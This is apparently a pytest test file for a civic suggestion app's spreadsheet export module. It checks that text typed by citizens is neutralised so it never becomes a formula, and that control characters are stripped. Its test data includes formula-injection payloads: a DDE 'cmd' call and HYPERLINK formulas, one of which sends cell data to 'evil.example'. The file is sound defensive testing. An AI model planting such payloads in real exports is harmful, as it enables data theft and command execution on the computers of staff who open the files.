"""Spreadsheet exports: what citizens typed never becomes a formula, and no character breaks the
file; every export of the app writes through ``mediation.exports``."""

from __future__ import annotations

import io
import re
from pathlib import Path

import pytest
from openpyxl import load_workbook

from mediation import exports
from mediation.suggestions.tables import Suggestion
from tests.helpers import login
from tests.suggestions.test_staff import _submit

PACKAGE = Path(exports.__file__).parent


@pytest.mark.parametrize(
    "typed,written",
    [
        ("=1+1", "'=1+1"),
        ('=HYPERLINK("http://x/?"&C3,"点击")', '\'=HYPERLINK("http://x/?"&C3,"点击")'),
        ("+8613800000000", "'+8613800000000"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=cmd|' /C calc'!A0", "'\t=cmd|' /C calc'!A0"),
        ("\r=1", "'\r=1"),
        ("  =1", "'  =1"),
        ("＝1＋1", "'＝1＋1"),
        ("a\x01b\x00c\x1fd", "abcd"),
        ("\x01=1", "'=1"),
        ("第一行\n第二行\t完", "第一行\n第二行\t完"),
        ("东湖路 = 拥堵", "东湖路 = 拥堵"),
    ],
)
def test_text_is_neutralised(typed, written):
    assert exports.neutralise(typed) == written


def test_a_workbook_holds_text_cells_only_for_text_and_keeps_numbers_and_dates():
    from datetime import date
    from decimal import Decimal

    data = exports.workbook_bytes(
        "表", ["a", "b", "c", "d"], [["=1+1", 3, Decimal("1.50"), date(2026, 11, 30)]]
    )
    sheet = load_workbook(io.BytesIO(data)).active
    cells = list(sheet.iter_rows(min_row=2))[0]
    assert cells[0].value == "'=1+1" and cells[0].data_type == "s"
    assert cells[1].value == 3 and cells[2].value == 1.5
    assert cells[3].value.date() == date(2026, 11, 30)


@pytest.mark.anyio
async def test_the_suggestion_export_turns_no_citizens_text_into_a_formula(client):
    sid = await _submit()
    await Suggestion.update(
        {
            Suggestion.title: '\t=HYPERLINK("http://evil.example/?"&F3,"查看详情")',
            Suggestion.reason: "=1+1",
            Suggestion.measures: "控制字符\x01不应让导出失败\x0b",
        }
    ).where(Suggestion.id == sid)
    code = (await Suggestion.select(Suggestion.tracking_code).where(Suggestion.id == sid).first())[
        "tracking_code"
    ]
    await login(client, "admin")
    response = await client.get("/suggestions/export.xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
    row = next(r for r in sheet.iter_rows() if r[0].value == code)
    assert row[3].value == '\'\t=HYPERLINK("http://evil.example/?"&F3,"查看详情")'
    assert row[4].value == "'=1+1"
    assert row[5].value == "控制字符不应让导出失败"


def test_every_spreadsheet_the_app_writes_goes_through_the_exports_module():
    """A module that writes a workbook or CSV uses mediation.exports (its writers, or
    ``neutralise`` on every text cell of a laid-out form)."""
    writers = re.compile(r"\bopenpyxl\b|csv\.writer|csv\.DictWriter|xlsxwriter")
    offenders = [
        str(path.relative_to(PACKAGE))
        for path in PACKAGE.rglob("*.py")
        if path.name != "exports.py"
        and "piccolo_migrations" not in path.parts
        and writers.search(text := path.read_text(encoding="utf-8"))
        and "from mediation.exports import" not in text
    ]
    assert offenders == [], "write spreadsheets with mediation.exports"
